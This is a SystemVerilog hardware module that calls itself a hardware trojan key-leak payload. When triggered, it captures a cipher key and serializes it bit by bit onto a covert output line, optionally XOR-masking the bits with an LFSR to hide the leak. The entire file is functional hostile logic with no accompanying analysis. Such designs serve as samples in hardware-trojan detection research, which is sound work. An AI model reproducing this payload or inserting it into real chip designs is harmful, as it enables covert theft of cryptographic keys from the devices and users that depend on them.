// File: rtl/trojan_key_leak_payload.sv
// Key-leak payload: snapshots the cipher key on trigger and serializes it MSB-first on leak_out.
// Optional TJ_LEAK_LFSR_EN build XORs each leaked bit with a 16-bit Fibonacci LFSR.
module trojan_key_leak_payload #(
    parameter int unsigned KEY_W      = 128,
    parameter int unsigned BIT_PERIOD = 16,
    parameter logic [15:0] LFSR_SEED  = 16'hACE1
) (
    input  logic             clk,
    input  logic             rst,
    input  logic             tj_trig,
    input  logic [KEY_W-1:0] key,
    input  logic             rearm,
    output logic             leak_out,
    output logic             leak_valid,
    output logic             busy,
    output logic             done
);

    localparam int unsigned BW = $clog2(KEY_W);
    localparam int unsigned PW = (BIT_PERIOD > 1) ? $clog2(BIT_PERIOD) : 1;
    localparam logic [BW-1:0] BitLast = BW'(KEY_W - 1);
    localparam logic [PW-1:0] PerLast = PW'(BIT_PERIOD - 1);

    typedef enum logic [1:0] {StIdle, StCapture, StShift, StDone} state_t;

    state_t           state_q, state_d;
    logic [KEY_W-1:0] shreg_q, shreg_d;
    logic [BW-1:0]    bit_cnt_q, bit_cnt_d;
    logic [PW-1:0]    per_cnt_q, per_cnt_d;
    logic             mask_d;

    always_comb begin
        state_d   = state_q;
        shreg_d   = shreg_q;
        bit_cnt_d = bit_cnt_q;
        per_cnt_d = per_cnt_q;
        case (state_q)
            StIdle: begin
                if (tj_trig) begin
                    shreg_d = key;
                    state_d = StCapture;
                end
            end
            StCapture: begin
                bit_cnt_d = '0;
                per_cnt_d = '0;
                state_d   = StShift;
            end
            StShift: begin
                if (per_cnt_q == PerLast) begin
                    shreg_d   = {shreg_q[KEY_W-2:0], 1'b0};
                    per_cnt_d = '0;
                    // Last bit: leave bit_cnt at KEY_W-1 rather than wrapping.
                    if (bit_cnt_q == BitLast) begin
                        state_d = StDone;
                    end else begin
                        bit_cnt_d = bit_cnt_q + 1'b1;
                    end
                end else begin
                    per_cnt_d = per_cnt_q + 1'b1;
                end
            end
            StDone: begin
                if (rearm) begin
                    state_d = StIdle;
                end
            end
            default: state_d = StIdle;
        endcase
    end

`ifdef TJ_LEAK_LFSR_EN
    logic [15:0] lfsr_q, lfsr_d;

    // Right-shifting Fibonacci form of x^16+x^14+x^13+x^11+1; lfsr[0] is the mask bit.
    always_comb begin
        lfsr_d = lfsr_q;
        if (state_q == StCapture) begin
            lfsr_d = LFSR_SEED;
        end else if (state_q == StShift) begin
            lfsr_d = {lfsr_q[0] ^ lfsr_q[2] ^ lfsr_q[3] ^ lfsr_q[5], lfsr_q[15:1]};
        end
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            lfsr_q <= '0;
        end else begin
            lfsr_q <= lfsr_d;
        end
    end

    assign mask_d = lfsr_d[0];
`else
    assign mask_d = 1'b0;
`endif

    // Outputs are registered from next-state values so they line up with state_q.
    always_ff @(posedge clk) begin
        if (rst) begin
            state_q    <= StIdle;
            shreg_q    <= '0;
            bit_cnt_q  <= '0;
            per_cnt_q  <= '0;
            leak_out   <= 1'b0;
            leak_valid <= 1'b0;
            busy       <= 1'b0;
            done       <= 1'b0;
        end else begin
            state_q    <= state_d;
            shreg_q    <= shreg_d;
            bit_cnt_q  <= bit_cnt_d;
            per_cnt_q  <= per_cnt_d;
            leak_out   <= (state_d == StShift) & (shreg_d[KEY_W-1] ^ mask_d);
            leak_valid <= (state_d == StShift);
            busy       <= (state_d == StCapture) || (state_d == StShift);
            done       <= (state_d == StDone);
        end
    end

endmodule
